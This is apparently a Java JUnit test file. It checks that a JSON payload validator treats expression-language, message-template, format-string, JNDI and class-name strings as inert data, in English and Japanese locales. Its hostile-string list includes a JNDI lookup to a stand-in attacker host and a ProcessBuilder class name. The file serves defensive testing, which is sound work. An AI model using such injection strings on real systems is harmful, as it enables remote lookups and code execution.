package io.jointresponse.validation;

import static org.assertj.core.api.Assertions.assertThat;

import io.jointresponse.core.finding.Finding;
import io.jointresponse.fixtures.FixtureFiles;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Expression, message-template, format-string, JNDI and class-name strings are data only. Each is
 * put in every value of every canonical payload (strings, and values of other types, which then
 * have the wrong type) and used as a property name; the findings must be exactly those that a
 * plain word in the same place gives, in English and in Japanese: nothing is evaluated,
 * interpolated or looked up, and no class is loaded by name.
 */
class InjectionTest {

    private static final String CANARY = InjectionCanary.class.getName();

    // No hostile string holds personal data such as an IP address: SHR-004 would rightly find it in a share.
    static final List<String> HOSTILE = List.of(
            "${1+1}", "#{1+1}", "{jakarta.validation.constraints.NotNull.message}", "{rule.AGR-001}",
            "{validatedValue}", "%s%n%d", "@class", "java.lang.ProcessBuilder", "${jndi:ldap://attacker.example/a}",
            "${java:version}", "{0}", "${validatedValue}", CANARY);

    private static final String PLAIN = "zzzz";

    /** The valid payload of every value type of every kind. */
    private static final List<String> FILES = FixtureFiles.validPayloads();

    private static final JsonMapper MAPPER = JsonMapper.builder().build();

    private static final List<JointResponseValidator> VALIDATORS = List.of(
            JointResponseValidator.builder().locale(Locale.ENGLISH).build(),
            JointResponseValidator.builder().locale(Locale.JAPANESE).build());

    private static ObjectNode fixture(String file) {
        return (ObjectNode) MAPPER.readTree(FixtureFiles.read(file));
    }

    /** Every way of changing one place of the tree to hold a given text, as a value or a name. */
    private static List<Consumer<String>> places(JsonNode node, List<Consumer<String>> into) {
        if (node instanceof ObjectNode object) {
            for (String name : new ArrayList<>(object.propertyNames())) {
                JsonNode child = object.get(name);
                if (child.isValueNode()) {
                    into.add(text -> object.put(name, text));
                } else {
                    places(child, into);
                }
            }
            into.add(text -> object.put(text, 1));
        } else if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                int at = i;
                if (array.get(i).isValueNode()) {
                    into.add(text -> array.set(at, array.stringNode(text)));
                } else {
                    places(array.get(i), into);
                }
            }
        }
        return into;
    }

    private static Set<String> findings(JointResponseValidator validator, JsonNode tree) {
        Set<String> out = new TreeSet<>();
        for (Finding f : validator.validatePayload(tree.toString().getBytes(StandardCharsets.UTF_8)).findings()) {
            out.add(f.ruleId() + " " + f.pointer() + " " + f.severity() + " " + f.message());
        }
        return out;
    }

    @Test
    void hostileStringsAnywhereGiveTheFindingsOfAPlainWord() {
        int checked = 0;
        for (String file : FILES) {
            int count = places(fixture(file), new ArrayList<>()).size();
            for (int place = 0; place < count; place++) {
                for (JointResponseValidator validator : VALIDATORS) {
                    ObjectNode plainTree = fixture(file);
                    places(plainTree, new ArrayList<>()).get(place).accept(PLAIN);
                    Set<String> plain = findings(validator, plainTree);
                    for (String hostile : HOSTILE) {
                        ObjectNode tree = fixture(file);
                        places(tree, new ArrayList<>()).get(place).accept(hostile);
                        Set<String> found = findings(validator, tree);
                        Set<String> expected = plain;
                        if (!plainTree.equals(tree) && found.size() == plain.size()) {
                            // A name put in as a property appears in its pointer: compare with it swapped back.
                            expected = new TreeSet<>();
                            for (String f : plain) {
                                expected.add(f.replace("/" + PLAIN, "/" + escape(hostile)));
                            }
                        }
                        assertThat(found).as("%s, place %d, %s, %s", file, place, hostile, validator.options().locale())
                                .isEqualTo(expected);
                        for (String f : found) {
                            String message = f.substring(f.indexOf(' ', f.indexOf(' ', f.indexOf(' ') + 1) + 1) + 1);
                            assertThat(message).doesNotContain(hostile, "must not be null", "null は", "jndi", "ProcessBuilder");
                        }
                        checked++;
                    }
                }
            }
        }
        System.out.printf("injection: %d payloads checked%n", checked);
        assertThat(InjectionCanary.Flag.INITIALISED.get()).as("a class named in a payload was loaded").isFalse();
    }

    private static String escape(String token) {
        return token.replace("~", "~0").replace("/", "~1");
    }

    @Test
    void classNamesAsTypeOrClassPropertyAreFindingsNeverClassLoads() {
        for (JointResponseValidator validator : VALIDATORS) {
            for (String file : FILES) {
                for (String property : List.of("@class", "type", "@type", "kind", "$type", "class")) {
                    for (String className : List.of(CANARY, "java.lang.ProcessBuilder")) {
                        ObjectNode tree = fixture(file);
                        tree.put(property, className);
                        ValidationReport report = validator.validatePayload(tree.toString().getBytes(StandardCharsets.UTF_8));
                        assertThat(report.isValid()).as("%s with %s=%s", file, property, className).isFalse();
                        assertThat(report.findings()).extracting(Finding::ruleId).allMatch(id -> id.startsWith("SHAPE-"));
                        assertThat(report.findings()).extracting(Finding::message).noneMatch(m -> m.contains(className));
                    }
                }
            }
        }
        assertThat(InjectionCanary.Flag.INITIALISED.get()).as("a class named in a payload was loaded").isFalse();
    }
}
